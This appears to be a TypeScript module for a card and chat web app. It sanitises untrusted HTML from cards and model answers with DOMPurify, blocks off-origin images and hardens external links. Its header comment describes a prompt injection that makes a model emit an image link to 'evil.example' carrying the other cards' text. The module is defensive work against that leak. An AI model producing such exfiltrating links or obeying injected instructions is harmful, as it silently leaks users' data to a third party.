// Untrusted HTML (rendered cards and model answers) → HTML that cannot make the
// browser fetch from another origin and cannot pose as the app's own UI.
//
// A card or an answer may carry a prompt injection that asks for
// `![](https://evil.example/?d=<the other cards>)`: loading that image would
// send card text to another host with no click. So DOMPurify keeps only the
// tags and attributes Markdown needs (no svg, media, frames, forms, srcset,
// style, ids, classes or data-*), and a pass over its inert output turns every
// image that is not same-origin or data: into a labelled placeholder and opens
// off-site links in a new tab without opener or referrer. The CSP in
// firebase.json is the second wall. (Chromium reports a style attribute in the
// HTML even while DOMPurify parses it into its inert document: a report for
// content that carries one, not a style applied.)
import DOMPurify, { type Config } from 'dompurify';

const ALLOWED_TAGS = [
  'a', 'abbr', 'b', 'bdi', 'bdo', 'blockquote', 'br', 'caption', 'cite', 'code', 'col', 'colgroup', 'dd', 'del',
  'details', 'dfn', 'div', 'dl', 'dt', 'em', 'figcaption', 'figure', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i',
  'img', 'ins', 'kbd', 'li', 'mark', 'ol', 'p', 'pre', 'q', 'rp', 'rt', 'ruby', 's', 'samp', 'small', 'span', 'strong',
  'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'time', 'tr', 'u', 'ul', 'var', 'wbr',
];
// No id/name (DOM clobbering, the app's ids), class, data-*, aria-*, style,
// srcset, background, ping, for/form: untrusted HTML styles and names nothing.
const ALLOWED_ATTR = [
  'href', 'src', 'alt', 'title', 'align', 'colspan', 'rowspan', 'scope', 'abbr', 'start', 'reversed', 'type', 'open',
  'lang', 'dir', 'datetime', 'width', 'height',
];
const CONFIG: Config & { RETURN_DOM_FRAGMENT: true } = {
  ALLOWED_TAGS, ALLOWED_ATTR, ALLOW_DATA_ATTR: false, ALLOW_ARIA_ATTR: false, SANITIZE_DOM: true, RETURN_DOM_FRAGMENT: true,
};

/** The attributes our own renderer may set on elements it marks as trusted. */
const TRUSTED_ATTRS = new Set(['class', 'data-card-id', 'tabindex']);
const TRUST_ATTR = 'data-cardchat-trust';
// Fresh on every page load, so text written before it (a card, an answer)
// cannot carry it.
const NONCE = Array.from(crypto.getRandomValues(new Uint8Array(16)), (b) => b.toString(16).padStart(2, '0')).join('');

/** Attribute text that marks an element our renderer wrote (class and data-card-id survive on it). */
export function trustedMark(): string {
  return `${TRUST_ATTR}="${NONCE}"`;
}

let purifier: ReturnType<typeof DOMPurify> | null = null;
function instance(): ReturnType<typeof DOMPurify> {
  if (purifier) return purifier;
  // An own instance: these hooks must not leak into other DOMPurify users.
  const p = DOMPurify(window);
  const trusted = new WeakSet<Element>();
  p.addHook('beforeSanitizeAttributes', (node) => {
    const el = node as Element;
    if (el.nodeType === 1 && el.getAttribute(TRUST_ATTR) === NONCE) trusted.add(el);
  });
  p.addHook('uponSanitizeAttribute', (node, data) => {
    if (TRUSTED_ATTRS.has(data.attrName) && trusted.has(node as Element)) data.forceKeepAttr = true;
  });
  purifier = p;
  return p;
}

/** Where `url` points, resolved the way the browser would; null if it cannot be parsed. */
function resolve(url: string, base: string): URL | null {
  try {
    return new URL(url, base);
  } catch {
    return null;
  }
}

function imageMayLoad(src: string, base: string): boolean {
  if (/^data:image\//i.test(src.trim())) return true;
  const url = resolve(src, base);
  return url !== null && url.origin === new URL(base).origin;
}

/** A visible stand-in for an image that is not loaded: says what and from which host. */
function placeholder(img: Element, base: string): Element {
  const doc = img.ownerDocument;
  const src = img.getAttribute('src') ?? '';
  const alt = (img.getAttribute('alt') ?? '').trim();
  const url = src ? resolve(src, base) : null;
  const web = url !== null && (url.protocol === 'https:' || url.protocol === 'http:');
  // A link inside a link is not valid HTML: inside one, a plain label.
  const asLink = web && !img.parentElement?.closest('a');
  const el = doc.createElement(asLink ? 'a' : 'span');
  el.className = 'remote-image';
  const what = alt ? `Image “${alt}”` : 'Image';
  el.textContent = url?.host ? `${what} from ${url.host}` : what;
  el.setAttribute('title', url ? `Not loaded: ${url.href}` : 'Image not loaded');
  if (asLink && url) {
    el.setAttribute('href', url.href);
    el.setAttribute('target', '_blank');
    el.setAttribute('rel', 'noopener noreferrer');
  }
  return el;
}

/**
 * Runs on DOMPurify's output while it still belongs to DOMPurify's inert
 * document, so no image in it has started to load.
 */
function neutralise(fragment: DocumentFragment, base: string): void {
  const origin = new URL(base).origin;
  for (const img of Array.from(fragment.querySelectorAll('img'))) {
    if (!imageMayLoad(img.getAttribute('src') ?? '', base)) img.replaceWith(placeholder(img, base));
  }
  for (const a of Array.from(fragment.querySelectorAll('a[href]'))) {
    const url = resolve(a.getAttribute('href') ?? '', base);
    if (url === null || url.origin !== origin) {
      a.setAttribute('target', '_blank');
      a.setAttribute('rel', 'noopener noreferrer');
    }
  }
}

/**
 * A code block scrolls sideways rather than wrap (wrapping breaks the layout of code
 * and diagrams): one that overflows must be scrollable from the keyboard too, so each
 * takes focus. Set here, after DOMPurify, so the tab stop is ours, never the card's.
 */
function keyboardScrollable(fragment: DocumentFragment): void {
  for (const pre of Array.from(fragment.querySelectorAll('pre'))) pre.setAttribute('tabindex', '0');
}

/** Sanitises untrusted HTML; `base` is the page URL links and images resolve against. */
export function sanitize(html: string, base: string = window.location.href): string {
  const fragment = instance().sanitize(html, CONFIG);
  neutralise(fragment, base);
  keyboardScrollable(fragment);
  const box = fragment.ownerDocument.createElement('div');
  box.appendChild(fragment);
  return box.innerHTML;
}
